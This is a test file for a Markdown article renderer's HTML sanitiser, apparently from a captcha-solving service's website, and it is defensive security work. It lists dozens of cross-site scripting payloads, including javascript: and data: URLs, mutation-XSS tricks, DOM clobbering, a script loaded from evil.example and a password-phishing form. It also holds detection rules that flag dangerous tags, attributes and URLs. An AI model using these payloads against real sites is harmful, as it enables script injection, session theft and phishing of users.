import { parseFragment } from "parse5"
import { describe, expect, it } from "vitest"
import { lineDiff, searchText, slugFromTitle } from "../src/modules/content/content"
import { readingMinutes, renderMarkdown } from "../src/modules/content/render"
import { cleanPastedHtml } from "../src/modules/content/routes"

/*
 * The article renderer (server/src/modules/content/render.ts): what an author writes in Markdown — with HTML
 * inside it — comes out as HTML that runs nothing, with anchored headings and highlighted code.
 */

/** Payloads that have run script in some sanitiser or browser, each inside an article's Markdown. */
const XSS_PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="alert(1)">`,
  `<img src="javascript:alert(1)">`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">click</a>`,
  `<a href="&#106;avascript:alert(1)">click</a>`,
  `[click](javascript:alert(1))`,
  `[click](  javascript:alert(1) "title")`,
  `![x](javascript:alert(1))`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>`,
  `<svg onload=alert(1)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<xmp><script>alert(1)</script></xmp>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="data:text/html,<script>alert(1)</script>">`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `![x](data:image/png;base64,iVBORw0KGgo=)`,
  `<p style="background:url(javascript:alert(1))">styled</p>`,
  `<style>@import url(https://evil.example/x.css); body { display: none }</style>`,
  `<div style="position:fixed;inset:0">cover</div>`,
  `<form action="https://evil.example"><input name="password"><button>Go</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">ok</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<template><script>alert(1)</script></template>`,
  `<textarea><script>alert(1)</script></textarea>`,
  `<img src="x" id="getElementById" name="cookie">`,
  `<code class="language-js evil">x</code> <span class="hidden">x</span>`,
  `<video><source onerror="alert(1)"></video>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<img srcset="javascript:alert(1) 1x">`,
]

/** Elements an article may contain; anything else in the output is a failure of the sanitiser. */
const ALLOWED_TAGS = new Set(
  (
    "a b blockquote br code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd " +
    "li ol p pre q rp rt ruby s samp section span strike strong sub summary sup table tbody td tfoot th thead tr " +
    "tt ul var"
  ).split(" "),
)
/** Addresses that run or embed something instead of going somewhere. */
const BAD_URL = /^\s*(javascript|vbscript|data|file):/i
/** Classes the renderer itself sets (an author may set only language-*). */
const OWN_CLASS =
  /^(language-[a-z0-9+#-]+|callout|callout-[a-z]+|callout-title|shiki|shiki-themes|github-light|github-dark|line|footnotes|sr-only|data-footnote-backref|task-list-item|contains-task-list)$/

/**
 * What in the output could run, load, restyle or shadow the page, found by parsing it as a browser does (parse5):
 * an element outside the list, an event handler, style (except shiki's colours on its own spans), a bad address,
 * a class or id of the author's own.
 */
function dangers(html: string): string[] {
  const found: string[] = []
  type Node = {
    nodeName: string
    tagName?: string
    attrs?: { name: string; value: string }[]
    childNodes?: Node[]
  }
  const walk = (node: Node, inShiki: boolean) => {
    const tag = node.tagName
    let shiki = inShiki
    if (tag) {
      if (!ALLOWED_TAGS.has(tag)) found.push(`<${tag}>`)
      const attrs = new Map((node.attrs ?? []).map((attr) => [attr.name, attr.value]))
      shiki ||= tag === "pre" && (attrs.get("class") ?? "").startsWith("shiki ")
      for (const [name, value] of attrs) {
        if (name.startsWith("on")) found.push(`<${tag} ${name}>`)
        if (name === "style" && !shiki) found.push(`<${tag} style>`)
        if (
          [
            "href",
            "src",
            "action",
            "formaction",
            "data",
            "srcset",
            "srcdoc",
            "xlink:href",
            "background",
          ].includes(name) &&
          (BAD_URL.test(value) || name === "srcdoc" || name === "srcset")
        )
          found.push(`<${tag} ${name}="${value}">`)
        if (name === "class" && value.split(/\s+/).some((c) => !OWN_CLASS.test(c)))
          found.push(`<${tag} class="${value}">`)
        if ((name === "id" || name === "name") && !/^(user-content-|[\p{Ll}\p{N}-]+$)/u.test(value))
          found.push(`<${tag} ${name}="${value}">`)
      }
      if (tag === "input" && !(attrs.get("type") === "checkbox" && attrs.has("disabled")))
        found.push("<input> that takes input")
    }
    for (const child of node.childNodes ?? []) walk(child, shiki)
    // <template> keeps its children in .content
    const content = (node as { content?: Node }).content
    if (content) walk(content, shiki)
  }
  walk(parseFragment(html) as unknown as Node, false)
  return found
}

describe("the article renderer", () => {
  it.each(XSS_PAYLOADS)("keeps %s inert", async (payload) => {
    const { html } = await renderMarkdown(`Before\n\n${payload}\n\nAfter ${payload} inline.`)
    expect(dangers(html), html).toEqual([])
    expect(html).toContain("Before")
    expect(html).toContain("After")
  })

  it("prefixes ids an author sets, so that an article cannot shadow the page's own (DOM clobbering)", async () => {
    const { html } = await renderMarkdown(`<img src="x" id="getElementById" name="cookie">`)
    expect(html).not.toMatch(/id="getElementById"/)
    expect(html).toMatch(/id="user-content-getElementById"/)
    expect(html).toMatch(/name="user-content-cookie"/)
  })

  it("keeps ordinary Markdown: emphasis, links, pictures over https or from the site, tables, task lists", async () => {
    const { html } = await renderMarkdown(
      [
        "Some **bold** and _italic_ text with [a link](https://manyhands.example/docs) and `code`.",
        "",
        "![A chart](/files/chart.webp) ![Remote](https://cdn.example/a.png) ![Plain](http://cdn.example/b.png)",
        "",
        "| Type | Price |",
        "| ---- | ----: |",
        "| Normal | $0.50 |",
        "",
        "- [x] done",
        "- [ ] to do",
      ].join("\n"),
    )
    expect(html).toContain("<strong>bold</strong>")
    expect(html).toContain("<em>italic</em>")
    expect(html).toContain('<a href="https://manyhands.example/docs">a link</a>')
    expect(html).toContain('<img src="/files/chart.webp" alt="A chart" loading="lazy">')
    expect(html).toContain('<img src="https://cdn.example/a.png" alt="Remote" loading="lazy">')
    // Plain http pictures would be mixed content on an https page: the address is dropped.
    expect(html).toContain('<img alt="Plain" loading="lazy">')
    expect(html).toMatch(/<table>[\s\S]*<th>Type<\/th>[\s\S]*<td align="right">\$0\.50<\/td>/)
    expect(html).toContain('<input type="checkbox" checked disabled>')
  })

  it("anchors headings and lists h2 and h3 as the table of contents", async () => {
    const { html, toc } = await renderMarkdown(
      "# Title\n\n## Getting started\n\n### Your API key\n\n#### Deep\n\n## Getting started\n\n## Ошибки и повторы\n",
    )
    expect(html).toContain('<h2 id="getting-started">Getting started</h2>')
    expect(html).toContain('<h3 id="your-api-key">Your API key</h3>')
    // The same heading twice gets two anchors.
    expect(html).toContain('<h2 id="getting-started-1">Getting started</h2>')
    expect(toc).toEqual([
      { depth: 2, id: "getting-started", text: "Getting started" },
      { depth: 3, id: "your-api-key", text: "Your API key" },
      { depth: 2, id: "getting-started-1", text: "Getting started" },
      { depth: 2, id: "ошибки-и-повторы", text: "Ошибки и повторы" },
    ])
  })

  it("highlights code on the server in the API's languages, and leaves other code escaped", async () => {
    const { html } = await renderMarkdown(
      [
        "```python",
        'solver = TwoCaptcha("KEY")',
        "```",
        "",
        "```js",
        "const answer = await solver.normal({ body })",
        "```",
        "",
        "```cobol",
        "<DISPLAY> 'HI'.",
        "```",
      ].join("\n"),
    )
    expect(html).toMatch(/<pre class="shiki[^"]*"[^>]*data-language="python"/)
    expect(html).toMatch(/<pre class="shiki[^"]*"[^>]*data-language="javascript"/)
    // Tokens carry both themes' colours.
    expect(html).toMatch(
      /<span style="color:#[0-9A-Fa-f]{6};--shiki-dark:#[0-9A-Fa-f]{6}"> TwoCaptcha\(<\/span>/,
    )
    expect(html).toContain("<pre><code class=\"language-cobol\">&#x3C;DISPLAY> 'HI'.")
  })

  it("leaves code plain when asked not to highlight, with the same contents", async () => {
    const markdown = "## Install\n\n```python\npip install 2captcha-python\n```\n\n## Solve\n"
    const highlighted = await renderMarkdown(markdown)
    const plain = await renderMarkdown(markdown, { highlight: false })
    expect(highlighted.html).toContain('<pre class="shiki')
    expect(plain.html).not.toContain("shiki")
    expect(plain.html).toContain('<pre><code class="language-python">pip install 2captcha-python')
    expect(plain.toc).toEqual(highlighted.toc)
    expect(plain.toc.map((entry) => entry.id)).toEqual(["install", "solve"])
  })

  it("renders callouts and figures", async () => {
    const { html } = await renderMarkdown(
      [
        "> [!WARNING]",
        "> Keep your key secret.",
        "",
        "> [!TIP] Faster answers",
        "> Use pingbacks.",
        "",
        "> A plain quote.",
        "",
        '![The task queue](/files/queue.webp "Tasks waiting for workers")',
      ].join("\n"),
      {
        calloutTitles: {
          note: "Примечание",
          tip: "Совет",
          important: "Важно",
          warning: "Внимание",
          caution: "Осторожно",
        },
      },
    )
    expect(html).toContain(
      '<div class="callout callout-warning" role="note"><p class="callout-title">Внимание</p><p>Keep your key secret.</p></div>',
    )
    expect(html).toContain('<p class="callout-title">Faster answers</p><p>Use pingbacks.</p>')
    expect(html).toContain("<blockquote>\n<p>A plain quote.</p>\n</blockquote>")
    expect(html).toContain(
      '<figure><img src="/files/queue.webp" alt="The task queue" loading="lazy"><figcaption>Tasks waiting for workers</figcaption></figure>',
    )
  })

  it("links footnotes to their notes", async () => {
    const { html } = await renderMarkdown("Prices change[^1].\n\n[^1]: Every hour.")
    const href = /<a href="#([^"]+)"[^>]*data-footnote-ref/.exec(html)?.[1]
    expect(href).toBeDefined()
    expect(html).toContain(`<li id="${href}">`)
  })

  it("gives the plain text and the reading time", async () => {
    const words = Array.from({ length: 450 }, (_, i) => `word${i}`).join(" ")
    const rendered = await renderMarkdown(`## Heading\n\n${words}\n\n\`\`\`bash\ncurl x\n\`\`\``)
    expect(rendered.plainText.startsWith("Heading\n\nword0 word1")).toBe(true)
    expect(rendered.plainText).toContain("curl x")
    expect(rendered.readingMinutes).toBe(3)
    expect(readingMinutes("")).toBe(1)
    // 1,000 Chinese characters read in about two minutes.
    expect(readingMinutes("验证码".repeat(333))).toBe(2)
  })
})

describe("article helpers", () => {
  it("diffs two texts line by line with numbers", () => {
    expect(lineDiff("a\nb\nc", "a\nB\nc\nd")).toEqual([
      { op: "same", text: "a", fromLine: 1, toLine: 1 },
      { op: "removed", text: "b", fromLine: 2, toLine: null },
      { op: "added", text: "B", fromLine: null, toLine: 2 },
      { op: "same", text: "c", fromLine: 3, toLine: 3 },
      { op: "added", text: "d", fromLine: null, toLine: 4 },
    ])
    expect(lineDiff("", "")).toEqual([])
  })

  it("makes slugs from titles, transliterating Cyrillic", () => {
    expect(slugFromTitle("How pingbacks work")).toBe("how-pingbacks-work")
    expect(slugFromTitle("Как работают пингбэки")).toBe("kak-rabotayut-pingbeki")
    expect(slugFromTitle("验证码")).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/)
  })

  it("takes a search of at least 3 characters, counting characters rather than bytes or UTF-16 units", () => {
    expect(searchText(undefined)).toBeUndefined()
    expect(searchText("   ")).toBeUndefined()
    expect(() => searchText("ab")).toThrow(/at least 3/)
    expect(() => searchText("  ab  ")).toThrow(/at least 3/)
    expect(() => searchText("検索")).toThrow(/at least 3/)
    expect(() => searchText("😀😀")).toThrow(/at least 3/)
    expect(searchText(" abc ")).toBe("abc")
    expect(searchText("验证码")).toBe("验证码")
  })

  it("cleans pasted HTML down to structure, links and pictures", () => {
    const pasted =
      '<h2 style="color:red" class="x">Title</h2><p onclick="x()">Text <a href="javascript:alert(1)">bad</a> ' +
      '<a href="https://ok.example" target="_blank">ok</a></p><script>alert(1)</script><style>p{}</style>' +
      '<xmp><script>alert(1)</script></xmp><img src="data:image/png;base64,AAAA" onerror="x()"><img src="https://cdn.example/a.png" alt="A">'
    expect(cleanPastedHtml(pasted)).toBe(
      '<h2>Title</h2><p>Text <a>bad</a> <a href="https://ok.example">ok</a></p><img /><img src="https://cdn.example/a.png" alt="A" />',
    )
  })
})
